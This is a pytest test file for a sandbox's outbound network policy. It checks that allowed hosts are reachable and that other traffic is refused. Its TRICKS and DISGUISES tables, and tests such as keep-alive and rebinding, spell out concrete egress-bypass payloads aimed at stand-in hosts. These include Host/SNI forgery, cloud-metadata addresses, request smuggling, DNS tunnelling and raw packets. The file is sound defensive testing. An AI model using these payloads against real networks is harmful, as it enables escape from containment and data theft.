"""A sandbox with a policy reaches what the policy names, and cannot talk its way round it."""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.hosting import until
from tests.network.conftest import Net
from tests.network.internet import DOH, EVIL, GOOD, METADATA, OTHER, PRIVATE, SECOND_DNS, SHARED

NXDOMAIN, REFUSED = 3, 5


async def test_an_allowed_name(net: Net) -> None:
    sandbox = await net.sandbox({"allow": ["good.example", "*.wild.example:443", "München.example"]})
    assert sandbox.info().network["egress"]["default"] == "deny"
    out = await net.probe(
        sandbox,
        """out = [tls("good.example", "good.example"), tls("api.wild.example", "api.wild.example"),
        tls("a.b.wild.example", "a.b.wild.example", verify=False), http("good.example", "GET /x HTTP/1.1\\r\\nHost: GOOD.example.\\r\\nConnection: close\\r\\n\\r\\n"),
        tls("GOOD.Example.", "GOOD.Example"), http("xn--mnchen-3ya.example", "GET / HTTP/1.1\\r\\nHost: xn--mnchen-3ya.example\\r\\nConnection: close\\r\\n\\r\\n"),
        tcp("good.example", 22), tcp("good.example", 5432, "hello\\n", 10)]""",
    )
    for result in out:
        assert result["ok"], out
        assert not result["data"].startswith("HTTP/1.1 4"), out
    assert out[6]["data"].startswith("SSH-2.0")
    assert out[7]["data"] == "got hello\n"
    assert {seen.what for seen in net.internet.at(GOOD, "tls")} >= {"good.example", "api.wild.example"}
    await until(lambda: any(e["state"] == "closed" and e["host"] == "good.example" for e in net.events(sandbox)))
    closed = next(e for e in net.events(sandbox) if e["state"] == "closed" and e["host"] == "good.example")
    assert closed["allowed"]
    assert (closed["address"], closed["port"]) == (GOOD, 443)
    assert closed["bytesSent"] > 100
    assert closed["bytesReceived"] > 100


#: What a hostile program tries, with good.example and *.wild.example:443 allowed. None of it may reach anybody but
#: GOOD, under an allowed name.
TRICKS: dict[str, str] = {
    "another name": 'tls("evil.example", "evil.example", verify=False)',
    "an address, its own name": f'tls("{EVIL}", "evil.example", verify=False)',
    "an address, no name": f'tls("{EVIL}", None, host="good.example", verify=False)',
    "the wildcard's own root": f'tls("{GOOD}", "wild.example", verify=False)',
    "a wildcard on another port": f'http("{GOOD}", "GET / HTTP/1.1\\r\\nHost: api.wild.example\\r\\n\\r\\n")',
    "a suffix that is no label": f'tls("{EVIL}", "evilgood.example", verify=False)',
    "HTTP to another host": f'http("{EVIL}", "GET / HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n")',
    "HTTP without a host": f'http("{EVIL}", "GET / HTTP/1.0\\r\\n\\r\\n")',
    "two hosts": f'http("{EVIL}", "GET / HTTP/1.1\\r\\nHost: good.example\\r\\nHost: evil.example\\r\\n\\r\\n")',
    "absolute form": f'http("{EVIL}", "GET http://evil.example/ HTTP/1.1\\r\\nHost: good.example\\r\\n\\r\\n")',
    "CONNECT": f'http("{EVIL}", "CONNECT evil.example:443 HTTP/1.1\\r\\nHost: good.example\\r\\n\\r\\n")',
    "an address as host": f'http("{EVIL}", "GET / HTTP/1.1\\r\\nHost: {EVIL}\\r\\n\\r\\n")',
    "metadata as host": f'http("{GOOD}", "GET / HTTP/1.1\\r\\nHost: {METADATA}\\r\\n\\r\\n")',
    "metadata, v4-mapped": f'http("{GOOD}", "GET / HTTP/1.1\\r\\nHost: [::ffff:{METADATA}]\\r\\n\\r\\n")',
    "metadata, as a number": f'http("{GOOD}", "GET / HTTP/1.1\\r\\nHost: 2852039166\\r\\n\\r\\n")',
    "user information": f'http("{EVIL}", "GET / HTTP/1.1\\r\\nHost: good.example@evil.example\\r\\n\\r\\n")',
    "h2 in the clear": f'http("{EVIL}", "PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n")',
    "a lowercase method": f'http("{EVIL}", "get / HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n")',
    "raw bytes": f'tcp("{EVIL}", 5432, "hello")',
    "SSH": f'tcp("{EVIL}", 22)',
    "mail": f'tcp("{GOOD}", 25)',
    "UDP": f'udp("{GOOD}", 9999)',
    "QUIC": f'udp("{GOOD}", 443)',
    "DNS over TLS": f'tls("{SECOND_DNS}", "dns.google", port=853, verify=False)',
    "DNS over HTTPS": f'tls("{DOH}", "cloudflare-dns.com", verify=False)',
    "another resolver": f'dns("{SECOND_DNS}", "good.example")',
    "another resolver, TCP": f'dns("{SECOND_DNS}", "good.example", over="tcp")',
    "the operator's resolver": 'dns("93.184.216.53", "evil.example")',
    "metadata": f'tcp("{METADATA}", 80, "GET / HTTP/1.0\\r\\n\\r\\n")',
    "private": f'tls("{PRIVATE}", "good.example.evil.example", verify=False)',
}


async def test_tricks(net: Net) -> None:
    sandbox = await net.sandbox({"allow": ["good.example", "*.wild.example:443"]})
    code = "out = {}\n" + "".join(f"out[{name!r}] = {call}\n" for name, call in TRICKS.items())
    out = await net.probe(sandbox, code)
    for name in TRICKS:
        answered = out[name].get("data", "")
        assert "HTTP/1.1 200" not in answered, (name, answered)
        assert "got " not in answered, (name, answered)
    for seen in net.internet.seen:
        if seen.kind == "dns":
            assert (seen.at, seen.what.removesuffix("api.").removeprefix("api.")) == (
                "93.184.216.53",
                "good.example",
            ), seen
        else:
            # At most a bare connection, to the allowed host itself.
            assert seen.at == GOOD, seen
            assert seen.kind in ("tls", "tcp", "end"), seen
    # An agent is told what happened.
    assert "network policy does not allow evil.example" in out["HTTP to another host"]["data"]
    assert (
        "ACCESS_DENIED" in out["another name"]["error"].upper().replace(" ", "_")
        or "not known" in out["another name"]["error"]
    )
    refused = [e for e in net.events(sandbox) if not e["allowed"]]
    assert {e["host"] for e in refused} >= {"evil.example", "cloudflare-dns.com"}


async def test_a_forged_name_leads_to_the_host_it_names(net: Net) -> None:
    """SNI or Host of an allowed name, sent to somebody else's address: it is the allowed host that gets it."""
    sandbox = await net.sandbox({"allow": ["good.example"]})
    out = await net.probe(
        sandbox,
        f"""out = [tls("{EVIL}", "good.example"), http("{METADATA}", "GET / HTTP/1.1\\r\\nHost: good.example\\r\\nConnection: close\\r\\n\\r\\n")]""",
    )
    for result in out:
        assert f'"at": "{GOOD}"' in result["data"]
    assert not net.internet.at(EVIL)
    assert not net.internet.at(METADATA)


async def test_keep_alive_with_another_host(net: Net) -> None:
    """Each request of a connection is judged; so is what is smuggled behind one."""
    sandbox = await net.sandbox({"allow": ["shared-good.example"]})
    first = "GET /1 HTTP/1.1\\r\\nHost: shared-good.example\\r\\n\\r\\n"
    evil = "GET /2 HTTP/1.1\\r\\nHost: shared-evil.example\\r\\n\\r\\n"
    both = "POST /3 HTTP/1.1\\r\\nHost: shared-good.example\\r\\nContent-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n"
    spaced = "POST /4 HTTP/1.1\\r\\nHost: shared-good.example\\r\\nTransfer-Encoding : chunked\\r\\n\\r\\n0\\r\\n\\r\\n"
    twice = "POST /5 HTTP/1.1\\r\\nHost: shared-good.example\\r\\nContent-Length: 0\\r\\nContent-Length: 60\\r\\n\\r\\n"
    odd = "POST /6 HTTP/1.1\\r\\nHost: shared-good.example\\r\\nTransfer-Encoding: xchunked\\r\\n\\r\\n0\\r\\n\\r\\n"
    bare = "GET /1 HTTP/1.1\\nHost: shared-good.example\\n\\nGET /2 HTTP/1.1\\nHost: shared-evil.example\\n\\n"
    for text in (first + evil, bare, both + evil, spaced + evil, twice + evil, odd + evil):
        await net.out(sandbox, f'http("{SHARED}", "{text}")')
    assert {seen.what for seen in net.internet.at(SHARED, "http")} == {"GET /1"}
    # A neighbour on an allowed host's address, by TLS.
    assert not (await net.out(sandbox, f'tls("{SHARED}", "shared-evil.example", verify=False)'))["ok"]
    assert not net.internet.at(SHARED, "tls")


async def test_a_neighbour_on_another_port(net: Net) -> None:
    """Where a remembered address counts, a TLS or HTTP name in the first bytes still must be allowed."""
    sandbox = await net.sandbox({"allow": ["shared-good.example:8080", "shared-good.example:5432"]})
    get = "GET / HTTP/1.1\\r\\nHost: {}\\r\\nConnection: close\\r\\n\\r\\n"
    out = await net.probe(
        sandbox,
        f"""out = [tcp("{SHARED}", 5432, "early", 9), resolve("shared-good.example"), tcp("{SHARED}", 5432, "hello\\n", 10),
        tls("{SHARED}", "shared-evil.example", port=5432, verify=False),
        http("{SHARED}", "{get.format("shared-good.example")}", 8080), http("{SHARED}", "{get.format("shared-evil.example")}", 8080)]""",
    )
    assert not out[0].get("data")  # nobody had asked for the name yet
    assert out[2]["data"] == "got hello\n"
    assert not out[3]["ok"]
    assert "200 OK" in out[4]["data"]
    assert "403" in out[5]["data"]
    assert [seen.more["headers"]["Host"] for seen in net.internet.at(SHARED, "http")] == ["shared-good.example"]
    assert all(b"\x16\x03" not in seen.more.get("data", b"") for seen in net.internet.at(SHARED, "tcp"))


#: What a forgiving web server would still read as a request; and TLS without a name.
DISGUISES = {
    "a blank line first": 'http("{}", "\\r\\nGET / HTTP/1.1\\r\\n{}", 5432)',
    "blanks first": 'http("{}", " \\t\\nGET / HTTP/1.1\\r\\n{}", 5432)',
    "lower case": 'http("{}", "get / HTTP/1.1\\r\\n{}", 5432)',
    "a method with a dash": 'http("{}", "M-SEARCH * HTTP/1.1\\r\\n{}", 5432)',
    "in pieces": 'pieces("{}", 5432, ["\\r\\n", "get", " / HTTP/1.1\\r\\n{}"])',
    "TLS without a name": 'tls("{}", None, port=5432, verify=False)',
}


@pytest.mark.parametrize("disguise", DISGUISES)
async def test_a_neighbour_in_disguise(net: Net, disguise: str) -> None:
    """On the way of remembered addresses, to a service that takes whatever comes."""
    sandbox = await net.sandbox({"allow": ["shared-good.example"]})
    call = DISGUISES[disguise].format(SHARED, "Host: shared-evil.example\\r\\nConnection: close\\r\\n\\r\\n")
    resolved, _ = await net.out(sandbox, f'resolve("shared-good.example"), {call}')
    assert resolved == [SHARED]
    await until(lambda: bool(net.internet.at(SHARED, "end")))
    assert not [seen for seen in net.internet.at(SHARED, "tcp") if seen.more.get("data")]


@pytest.mark.parametrize("name", ["private.example", "meta.example", "cname.good.example", "self.example"])
async def test_an_allowed_name_with_a_denied_address(net: Net, name: str) -> None:
    sandbox = await net.sandbox({"allow": [name]})
    out = await net.probe(
        sandbox,
        f"""out = [resolve("{name}"), tls("{GOOD}", "{name}", verify=False),
        http("{GOOD}", "GET / HTTP/1.1\\r\\nHost: {name}\\r\\n\\r\\n")]""",
    )
    assert isinstance(out[0], str) or name == "self.example", out
    assert not out[1]["ok"]
    assert "502" in out[2]["data"]
    assert not [seen for seen in net.internet.seen if seen.kind != "dns"]


async def test_rebinding(net: Net) -> None:
    """What is checked is what is dialled: a second answer between the two is never asked for."""
    net.internet.rebound["rebind.example"] = [[GOOD], [PRIVATE], [METADATA]]
    sandbox = await net.sandbox({"allow": ["rebind.example"]})
    get = "GET / HTTP/1.1\\r\\nHost: rebind.example\\r\\nConnection: close\\r\\n\\r\\n"
    for _ in range(2):
        await net.out(sandbox, f'[http("{GOOD}", "{get}"), time.sleep(1.1)][0]')
    assert not net.internet.at(PRIVATE)
    assert not net.internet.at(METADATA)
    assert net.internet.at(GOOD, "http")


async def test_addresses_and_ranges(net: Net) -> None:
    sandbox = await net.sandbox({"allow": [f"{GOOD}:5432", "93.184.216.13/32", PRIVATE]})
    out = await net.probe(
        sandbox,
        f"""out = [tcp("{GOOD}", 5432, "hello", 9), tcp("{GOOD}", 22), tcp("{OTHER}", 22), tls("{OTHER}", "any.thing", verify=False),
        tcp("{PRIVATE}", 22), tcp("{EVIL}", 5432, "hello", 9), resolve("good.example"), udp("{OTHER}", 9999), tcp("{OTHER}", 25)]""",
    )
    assert out[0]["data"] == "got hello"
    assert not out[1].get("data")
    assert out[2]["data"].startswith("SSH-2.0")
    assert out[3]["ok"]
    assert not out[4].get("data")
    assert not out[5].get("data")
    assert "not known" in out[6]
    assert not out[7]["ok"]
    assert not out[8]["ok"]
    assert not net.internet.at(PRIVATE)
    assert not net.internet.asked()


async def test_nothing_allowed_is_no_network(net: Net) -> None:
    sandbox = await net.sandbox({"default": "deny"})
    assert sandbox.info().network == {"egress": {"allow": [], "default": "deny"}}
    out = await net.probe(
        sandbox,
        f"""
gateway = open("/etc/resolv.conf").read().split()[1]
out = [dns(gateway, "good.example"), dns(gateway, "good.example", over="tcp"), tcp("{GOOD}", 80), udp("{GOOD}", 9999), tcp(gateway, 80), tcp(gateway, 53)]
""",
    )
    assert not any(result["ok"] for result in out), out
    assert all(result.get("s", 0) < 1 for result in out), f"refused at once, not left hanging: {out}"
    assert not net.internet.seen


async def test_dns_tunnels(net: Net) -> None:
    """Below an allowed wildcard: addresses only, names of bounded length, at a bounded rate; other names not at all."""
    sandbox = await net.sandbox({"allow": ["*.tunnel.example", "good.example"]})
    out = await net.probe(
        sandbox,
        """
gateway = open("/etc/resolv.conf").read().split()[1]
out = [dns(gateway, "x.tunnel.example", 16), dns(gateway, "x.tunnel.example", 10), dns(gateway, "x.evil.example", 16),
       dns(gateway, "a" * 60 + "." + "b" * 60 + ".tunnel.example"), dns(gateway, "good.example", 255),
       dns(gateway, "good.example", 28), dns(gateway, "good.example", over="tcp")]
many = [dns(gateway, f"n{n}.tunnel.example") for n in range(120)]
out.append(sum(1 for one in many if one["ok"] and one["answers"]))
""",
    )
    assert [result.get("answers") for result in out[:6]] == [0] * 6
    assert out[2]["rcode"] == NXDOMAIN
    assert out[3]["rcode"] == REFUSED
    assert out[6]["answers"] == 1
    assert 50 <= out[7] <= 90, "60 at once and five a second"
    asked = net.internet.asked()
    assert len(asked) <= 92
    assert not any("evil" in name or len(name) > 100 for name in asked)
    assert all(seen.more["type"] == "A" for seen in net.internet.seen if seen.kind == "dns")


async def test_a_redirect_leads_nowhere_else(net: Net) -> None:
    sandbox = await net.sandbox({"allow": ["good.example"]})
    text, _ = await net.host.run(
        sandbox,
        "python3 -c 'import urllib.request; print(urllib.request.urlopen(\"http://good.example/redirect\", timeout=4).read())' 2>&1",
    )
    assert "Error" in text
    assert not net.internet.at(EVIL)


def _forwarded() -> str:
    """Packets passed on so far by the machine the sandboxes are on (RFC 1213, ipForwDatagrams)."""
    names, values = [line.split() for line in Path("/proc/thread-self/net/snmp").read_text().splitlines()][:2]
    return values[names.index("ForwDatagrams")]


async def test_only_tcp_leaves(net: Net) -> None:
    """ICMP and packets made by hand, to what is allowed and to what is not, nor under another sandbox's address."""
    sandbox = await net.sandbox({"allow": ["good.example", GOOD]})
    before = _forwarded()
    out = await net.probe(
        sandbox,
        f"""
def checked(kind):
    body = bytes([kind, 0, 0, 0, 0, 7, 0, 1])
    total = sum(struct.unpack(">4H", body))
    return body[:2] + struct.pack(">H", ~((total & 0xffff) + (total >> 16)) & 0xffff) + body[4:]
def sent(kind, protocol, address, data):
    try:
        link = socket.socket(socket.AF_INET, kind, protocol)
        link.settimeout(0.5)
        link.sendto(data, (address, 0))
        return link.recv(999).hex()
    except OSError as error:
        return type(error).__name__
out = [sent(kind, 1, address, checked(8)) for kind in (socket.SOCK_DGRAM, socket.SOCK_RAW) for address in ("{GOOD}", "{EVIL}")]
out += [sent(socket.SOCK_RAW, protocol, "{GOOD}", b"x" * 40) for protocol in (4, 41, 47, 50, 132, 136)]
""",
    )
    assert all(answer.isalpha() for answer in out), f"nobody answered: {out}"
    assert _forwarded() == before, "no packet of its own leaves; what left was ours"
    assert not [seen for seen in net.internet.seen if seen.kind != "dns"]
    assert (await net.out(sandbox, f'tcp("{GOOD}", 22)'))["ok"]


@pytest.mark.parametrize(
    "entry",
    ["https://good.example", "good.example/path", "*", "*.com", "good.example:0", "good.example:99999", "fd00::1",
     "[::1]:80", "10.0.0.0/33", "a b", "x:25", "good..example", "127.1", "0x7f.1"],
)  # fmt: skip
async def test_entries_that_are_none(net: Net, entry: str) -> None:
    from runra.errors import RunraError

    with pytest.raises(RunraError) as caught:
        await net.host.create(network={"egress": {"allow": [entry]}})
    assert caught.value.code == "INVALID_CONFIG"
    assert caught.value.details["field"] == "network.egress.allow"
    assert not net.host.node.sandboxes


async def test_an_upgrade_to_another_protocol_is_not_passed_on(net: Net) -> None:
    """HTTP/2 by upgrade would carry requests that nobody judges."""
    sandbox = await net.sandbox({"allow": ["good.example"]})
    text = (
        "GET /up HTTP/1.1\\r\\nHost: good.example\\r\\nConnection: Upgrade, HTTP2-Settings\\r\\nUpgrade: h2c\\r\\n"
        "HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\\r\\n\\r\\n"
    )
    out = await net.out(sandbox, f'http("{GOOD}", "{text}")')
    assert "HTTP/1.1 101" not in out.get("data", "")
    (seen,) = net.internet.at(GOOD, "http")
    assert not {"upgrade", "http2-settings", "connection"} & {name.lower() for name in seen.more["headers"]}
